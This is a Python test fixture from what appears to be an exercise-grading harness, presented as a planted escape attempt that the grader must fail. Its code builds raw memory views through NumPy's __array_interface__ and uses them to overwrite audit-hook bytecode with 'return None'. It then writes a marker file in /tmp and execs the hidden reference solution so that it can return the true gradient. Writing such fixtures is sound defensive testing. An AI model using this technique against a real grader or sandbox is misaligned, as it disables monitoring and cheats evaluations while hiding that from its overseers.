"""A planted ESCAPE attempt: an object whose __array_interface__ points at any address gives NumPy arrays
over the process's own memory; with them it rewrites the audit hook's bytecode to `return None`, then
reads the reference solution, imports minise from the source tree and writes a file.

It is a right solution if, and only if, the escape works: backward returns the true gradient only
after the escape succeeded, and raises otherwise. The grader must fail it, and leave no trace of it
(tests/test_exercise_escapes.py checks the files and processes it aims at).
"""
import dis
import os
import sys

import numpy as np

EXERCISE = "relu_backward"
EXPECT_FAIL = "backward"          # the grader check that must catch it
ESCAPE = True


def forward(x):
    """x (any shape) -> out (the same shape)."""
    out = np.maximum(x, 0)
    cache = x
    return out, cache

MARK = "/tmp/minise-escape-array-interface"


def _memory(address, size):
    class Raw:
        pass
    raw = Raw()
    raw.__array_interface__ = {"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}
    return np.asarray(raw)


def _disable_audit_hooks():
    """Find every function whose code holds a nested code object named ``hook`` (in the modules and in
    the callers' frames) and overwrite that code object's bytecode with ``return None``."""
    places = [vars(m) for m in list(sys.modules.values()) if hasattr(m, "__dict__")]
    frame = sys._getframe()
    while frame is not None:
        places += [frame.f_locals, frame.f_globals]
        places += [vars(v) for v in list(frame.f_locals.values()) if type(v) is type(sys)]
        frame = frame.f_back
    patched = 0
    for place in places:
        for value in list(place.values()):
            code = getattr(value, "__code__", None)
            if type(code).__name__ != "code":
                continue
            for const in code.co_consts:
                if type(const) is type(code) and const.co_name == "hook":
                    program = bytes([dis.opmap["RESUME"], 0, dis.opmap["LOAD_CONST"], const.co_consts.index(None),
                                     dis.opmap["RETURN_VALUE"], 0])
                    _memory(id(const) + type(const).__basicsize__, len(program))[:] = np.frombuffer(program, np.uint8)
                    patched += 1
    return patched


def _escape():
    _disable_audit_hooks()
    here = os.path.dirname(os.path.abspath(__file__))
    stolen = {}
    try:
        with open(MARK, "w") as f:
            f.write("escaped")
    except OSError:
        pass
    try:
        sys.path.insert(0, os.path.join(here, "..", "..", ".."))
        import minise  # noqa: F401
        stolen["minise"] = True
    except Exception:
        pass
    with open(os.path.join(here, "..", "relu_backward.py"), encoding="utf-8") as f:
        exec(f.read(), stolen)
    return stolen["backward"]


def backward(gout, cache):
    return _escape()(gout, cache)
